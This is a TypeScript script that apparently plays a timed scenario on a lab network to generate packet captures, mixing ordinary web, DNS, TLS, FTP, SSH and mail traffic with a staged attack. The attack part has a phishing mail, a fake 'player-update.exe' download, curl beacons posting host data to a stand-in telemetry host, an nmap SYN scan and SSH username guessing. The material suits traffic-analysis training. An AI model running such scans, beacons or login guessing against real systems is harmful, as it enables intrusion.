import { setTimeout as wait } from 'node:timers/promises';
import { leaseArguments } from './name-server.ts';
import type { Network, Outcome } from './network.ts';
import { SSH_OPTIONS } from './secure-shell.ts';
import { ADDRESS } from './topology.ts';

/** Seconds from the first packet to the last. */
export const SCENARIO_SECONDS = 85;

/** What went otherwise than intended, for the one who remakes the captures. */
export interface Surprise {
  readonly step: string;
  readonly output: string;
}

/** Plays the story; several hosts act at the same time. Rejects when `signal` is aborted. */
export async function playScenario(net: Network, programs: string, signal: AbortSignal): Promise<Surprise[]> {
  const stage = new Stage(net, programs, signal);
  await stage.at(1);
  await stage.expect('alice leases an address', stage.lease('alice'));
  await Promise.all([
    download(stage),
    alice(stage),
    terminal(stage),
    bob(stage),
    attacker(stage),
    sites(stage),
  ]);
  await stage.at(SCENARIO_SECONDS);
  return stage.surprises;
}

/** The clock of the story, and the hands of its people. */
class Stage {
  readonly surprises: Surprise[] = [];
  readonly net: Network;
  readonly programs: string;
  private readonly signal: AbortSignal;
  private readonly began = performance.now();

  constructor(net: Network, programs: string, signal: AbortSignal) {
    this.net = net;
    this.programs = programs;
    this.signal = signal;
  }

  /** Waits until so many seconds into the story. */
  async at(second: number): Promise<void> {
    const left = second * 1000 - (performance.now() - this.began);
    await wait(Math.max(0, left), undefined, { signal: this.signal });
  }

  sh(host: string, line: string): Promise<Outcome> {
    return this.net.shell(host, `cd ${this.net.folder} && ${line}`);
  }

  curl(host: string, words: string): Promise<Outcome> {
    return this.sh(host, `curl -sS --max-time 50 --cacert ca/ca.pem -o /dev/null ${words}`);
  }

  lease(host: string): Promise<Outcome> {
    return this.net.run(host, 'busybox', ...leaseArguments(host));
  }

  /** Notes a step that ended with another code than intended. */
  async expect(step: string, outcome: Promise<Outcome>, code = 0): Promise<void> {
    const { code: got, output } = await outcome;
    if (got !== code) this.surprises.push({ step, output: `exit ${got}: ${output.trim().slice(0, 400)}` });
  }
}

/** A download as slow as a bad line, across all files of the capture. */
async function download(stage: Stage): Promise<void> {
  await stage.at(4);
  await stage.expect(
    'slow download',
    stage.curl('alice', '-4 --max-time 70 http://www.example.com/dataset.bin'),
  );
}

/** Ordinary work: name service, time, web in all its shapes, files. */
async function alice(stage: Stage): Promise<void> {
  const step = (name: string, host: string, line: string, code = 0): Promise<void> =>
    stage.expect(name, stage.sh(host, line), code);
  const curl = (name: string, words: string, code = 0): Promise<void> =>
    stage.expect(name, stage.curl('alice', words), code);
  const www = 'http://www.example.com';
  const agent = "-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'";
  await stage.at(3);
  await step('time', 'alice', `/usr/bin/python3 ${stage.programs}/sntp.py ask ${ADDRESS.time}`);
  await step('ping', 'alice', `busybox ping -c 3 ${ADDRESS.www}`);
  await step('ping 6', 'alice', `busybox ping6 -c 2 ${ADDRESS.www6}`);
  await stage.at(7);
  await curl(
    'pages',
    `-4 ${agent} --compressed ${www}/ -o /dev/null ${www}/style.css -o /dev/null ${www}/app.js -o /dev/null ${www}/logo.png`,
  );
  await curl('not found', `-4 ${agent} ${www}/favicon.ico`);
  await curl('form', `-4 ${agent} --data 'name=Alice&text=Hello' ${www}/contact`);
  await curl('redirect', `-4 ${agent} -L ${www}/old`);
  await curl('range', `-4 ${agent} -r 100-899 ${www}/report.pdf`);
  await curl('whole', `-4 ${agent} -e ${www}/about.html ${www}/report.pdf`);
  await curl('head', `-4 -I ${www}/about.html`);
  const get = (path: string): string => `GET ${path} HTTP/1.1\\r\\nHost: www.example.com\\r\\n`;
  await step(
    'pipelining',
    'alice',
    `(printf '${get('/style.css')}\\r\\n${get('/data.json')}\\r\\n${get('/about.html')}Connection: close\\r\\n\\r\\n'; sleep 1) | busybox nc ${ADDRESS.www} 80`,
  );
  await curl('IPv6', `-6 ${agent} --compressed ${www}/about.html`);
  await stage.at(17);
  const queries = [
    'www.example.com AAAA',
    'example.com MX',
    'example.com TXT',
    'example.com CAA',
    '_ldap._tcp.example.com SRV',
  ];
  queries.push(
    'intranet.example.com A',
    'no-such-host.example.com A',
    '-x 203.0.113.10',
    '+tcp www.example.com A',
  );
  for (const query of queries) await step(`dig ${query}`, 'alice', `dig +tries=1 ${query}`);
  await step('closed port', 'alice', `dig +tries=1 +time=1 @${ADDRESS.www} www.example.com`, 9);
  await stage.at(22);
  await curl('TLS 1.3, HTTP/2', `-4 https://www.example.com/ -o /dev/null https://www.example.com/logo.png`);
  await curl('TLS 1.2', '-4 --tls-max 1.2 --http1.1 https://www.example.com/data.json');
  await curl('TLS over IPv6', '-6 https://www.example.com/about.html');
  const old =
    'openssl s_client -connect legacy.example.com:443 -servername legacy.example.com -tls1 -cipher ALL:@SECLEVEL=0';
  await step('TLS 1.0', 'alice', `(printf 'GET / HTTP/1.0\\r\\n\\r\\n'; sleep 1) | ${old}`);
  await curl('expired, refused', 'https://expired.example.com/', 60);
  await curl('expired, accepted', '-k https://expired.example.com/');
  const session = 'openssl s_client -connect www.example.com:443 -servername www.example.com -tls1_2';
  await step('session', 'alice', `(sleep 0.5) | ${session} -sess_out session.pem`);
  await step('resumption', 'alice', `(sleep 0.5) | ${session} -sess_in session.pem`);
  await curl(
    'client certificate',
    '--cert ca/alice.example.com.pem --key ca/alice.example.com.key https://secure.example.com:8443/',
  );
  for (const path of ['about.html', 'logo.png']) {
    // One by one: this curl cannot use such a connection twice.
    await curl('HTTP/2 in clear', `-4 --http2-prior-knowledge http://www.example.com:8080/${path}`);
  }
  await step(
    'QUIC',
    'alice',
    'timeout 5 gtlsclient -q --exit-on-all-streams-close quic.example.com 443 https://quic.example.com/about.html',
  );
  await stage.at(38);
  const ftp = 'ftp://anna:example-password@files.example.com';
  await curl('FTP, passive', `${ftp}/firmware-1.2.tar.gz`);
  await curl('FTP, active', `-P - ${ftp}/README`);
  await curl('FTP, upload', `-T upload.csv ${ftp}/`);
  await stage.at(46);
  const search = Array.from(
    { length: 3 },
    (_, i) => `${i === 0 ? '' : '-o /dev/null '}${www}/search?q=${i}`,
  ).join(' ');
  await curl('slow answers', `-4 ${search}`);
  await stage.at(55);
  await step(
    'mail with STARTTLS',
    'alice',
    `curl -sS -k --ssl-reqd smtp://${ADDRESS.dmz}/alice --mail-from alice@example.com --mail-rcpt bob@example.com -T mail.eml`,
  );
  await stage.at(64);
  await curl('pages again', `-4 ${agent} --compressed ${www}/ -o /dev/null ${www}/about.html`);
  await stage.at(75);
  await curl('TLS 1.3 again', '-4 https://www.example.com/data.json');
}

/** A terminal that stays open from one file of the capture to the next. */
async function terminal(stage: Stage): Promise<void> {
  await stage.at(15);
  const command = 'for i in $(seq 60); do date; sleep 1; done';
  await stage.expect(
    'terminal',
    stage.sh('alice', `ssh ${SSH_OPTIONS.join(' ')} -i client.key anna@${ADDRESS.dmz} '${command}'`),
  );
}

/** The victim: a download that was recommended by mail, then a beacon. */
async function bob(stage: Stage): Promise<void> {
  await stage.at(10);
  await stage.expect('bob leases an address', stage.lease('bob'));
  await stage.at(28);
  const agent =
    "-A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36'";
  await stage.expect('news', stage.curl('bob', `-4 ${agent} http://www.example.com/news.html`));
  await stage.at(31);
  const from = '-e http://www.example.com/news.html';
  await stage.expect(
    'the file',
    stage.curl('bob', `${agent} ${from} http://files.updates-cdn.test/player-update.exe`),
  );
  for (let i = 0; i < 22; i++) {
    await stage.at(34 + i * 2);
    const beacon = `-k --http1.1 -A updater/1.0 --data 'host=bob&n=${i}' https://telemetry.updates-cdn.test/`;
    await stage.expect('beacon', stage.curl('bob', beacon));
  }
}

/** From outside: the mail, a scan, guesses at the terminal. */
async function attacker(stage: Stage): Promise<void> {
  await stage.at(13);
  const mail = `curl -sS smtp://${ADDRESS.dmz}/invoices.test --mail-from accounting@invoices.test --mail-rcpt bob@example.com -T mail.eml`;
  await stage.expect('mail', stage.sh('attacker', mail));
  await stage.at(42);
  await stage.expect(
    'scan',
    stage.sh('attacker', `nmap -n -Pn -sS --top-ports 80 --max-retries 1 --min-rate 100 ${ADDRESS.dmz}`),
  );
  await stage.at(50);
  for (const user of ['root', 'admin', 'test', 'oracle', 'anna', 'postgres']) {
    const ssh = `ssh ${SSH_OPTIONS.join(' ')} -i stranger.key ${user}@${ADDRESS.dmz} true`;
    await stage.expect(`guess ${user}`, stage.sh('attacker', ssh), 255);
  }
}

/** Two sites through the tunnel. */
async function sites(stage: Stage): Promise<void> {
  await stage.at(20);
  await stage.expect('ping in the tunnel', stage.sh('dmz', 'busybox ping -c 3 10.99.0.2'));
  await stage.expect('web in the tunnel', stage.curl('dmz', 'http://10.99.0.2:8000/report.pdf'));
  await stage.at(60);
  await stage.expect('web in the tunnel again', stage.curl('dmz', 'http://10.99.0.2:8000/data.json'));
}
